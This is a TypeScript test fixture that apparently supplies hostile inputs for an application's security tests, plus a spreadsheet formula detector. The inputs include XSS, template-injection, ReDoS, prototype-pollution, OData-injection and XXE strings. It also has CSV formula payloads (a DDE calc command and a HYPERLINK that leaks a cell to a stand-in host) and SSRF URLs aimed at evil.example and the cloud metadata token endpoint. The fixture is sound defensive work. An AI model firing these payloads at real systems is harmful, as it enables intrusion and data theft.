/** Something that somebody may write as a name, a title, an answer or a command, and the threat of docs/security.md that it is. */
export interface Hostile {
  id: `C${number}`;
  text: string;
}

const all: Record<Hostile['id'], readonly string[]> = {
  C1: ['${$root.speak} ${secret}', '${$root.secret}', '${string(json(body))} @{x}', '$'.repeat(99) + '{'],
  C2: ["${isMatch('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!','^(a+)+$')}", '${range(1,20000000)}', '('.repeat(3000)],
  C3: ['${nope}'],
  C4: [
    '[Reset password](https://evil.example)',
    '**bold** _it_ `code` # heading\n- item\n1. item',
    '{{DATE(2026-01-01T00:00:00Z)}} {{TIME(2026-01-01T00:00:00Z)}}',
    '\u202e\u2066evil\u0000\u0007\u001b[2J\u2028\u2029',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    '𝕬'.repeat(10_000),
    '\ud83d'.repeat(200),
    '漢'.repeat(300),
    '"\\"\\\\'.repeat(100),
    '\u200b',
    '',
  ],
  C5: ['<at>Everyone</at> <script>alert(1)</script> &lt;b&gt;', '<img src=x onerror=alert(1)>', '&lt;at&gt;'],
  C6: [
    '=HYPERLINK("http://e/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '\u200b=1',
    '\ufeff=1',
    '\u00ad\u2060 =1',
    '\u3164=1',
    ';=1',
    'Ann;=1',
    'Ann; "=1',
    'Ann|-1',
    '"=1"',
    "'=1",
    'Ann\r\nBerg,"x",=1',
    '"Ann" Berg',
    'Berg, Ann',
    '"',
    '""',
    ',',
    ';',
    '\t',
  ],
  C8: ['Ann\n{"level":30,"msg":"forged"}', 'Ann\u0000\u001b[2J', 'Ann\u2028Berg\u0085x', '\u202eevil', '\ud83d'],
  C9: ['__proto__', 'constructor', 'toString', '{"__proto__":{"isAdmin":true}}'],
  C10: ['5 days and '.repeat(3000), '(a+)+$ [^] \\ .* (?<x>', `${'the '.repeat(2500)}event`],
  C11: [
    "x' or startswith(organizer/identity/user/id,'a') or '1' eq '1",
    "$filter=id ne null&$expand=*'))",
    '../../users?$select=id#/%2e%2e/',
    '"\'“”\'"',
  ],
  C12: ['x'.repeat(5000), '👩‍👩‍👧‍👦 O’Neil', '&xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">'],
};

/** Every hostile text of the suite: what the tests of cards, files, searches and of the whole take theirs from. */
export const corpus: readonly Hostile[] = Object.entries(all).flatMap(([id, texts]) =>
  texts.map(text => ({ id: id as Hostile['id'], text })),
);

/** The texts of these threats; of all of them unless some are named. */
export const hostileTexts = (...ids: Hostile['id'][]): string[] =>
  corpus.filter(({ id }) => ids.length === 0 || ids.includes(id)).map(({ text }) => text);

/** `C4 [Reset password](https…`: for the name of a test. */
export const hostileRows = (...ids: Hostile['id'][]): [name: string, text: string][] =>
  corpus
    .filter(({ id }) => ids.length === 0 || ids.includes(id))
    .map(({ id, text }) => [`${id} ${JSON.stringify(text).slice(0, 40)}`, text]);

/** D1: what Graph, or whoever stands in for it, may name as the next page of this path on this host. */
export const hostileNextLinks = (host: string, path: string): string[] => [
  `https://evil.example${path}?x`,
  `https://${host}.evil.example${path}`,
  `https://${host}@evil.example${path}`,
  `https://${host}%40evil.example${path}`,
  `https://user@${host}${path}?x`,
  `https://user:pass@${host}${path}?x`,
  `https://:pass@${host}${path}?x`,
  `http://${host}${path}?x`,
  `https://${host}:8443${path}?x`,
  `https://${host}\\@evil.example${path}`,
  `//evil.example${path}`,
  '\\\\evil.example\\x',
  `https://169.254.169.254${path}`,
  'file:///etc/passwd',
  'javascript:alert(1)',
  `${path}/../../../../users?x`,
  `${path}/%2e%2e/%2e%2e/users?x`,
];

/** D3: where the channel, or whoever stands in for it, may want answers sent. */
export const hostileAddresses = (host: string): string[] => [
  'http://169.254.169.254/',
  'https://169.254.169.254/metadata/identity/oauth2/token',
  `https://${host}.evil.example/`,
  `https://${host}@evil.example/`,
  `https://u@${host}/`,
  `https://x.${host}/`,
  `https://${host}:8443/`,
  `http://${host}/`,
  'https://evil.example/',
  'file:///etc/passwd',
  '',
];

/** C6: whether a spreadsheet of any country could begin to read a formula, at the begin or behind a mark that separates cells somewhere. */
export function isFormula(cell: string): boolean {
  const pieces = cell.split(/[;|\t\r\n]/).map(piece => piece.replace(/^[\s\p{Cf}\p{Mn}\u3164"`]+/u, ''));
  return pieces.some(piece => '=+-@＝＋－＠'.includes(piece.charAt(0) || 'x'));
}
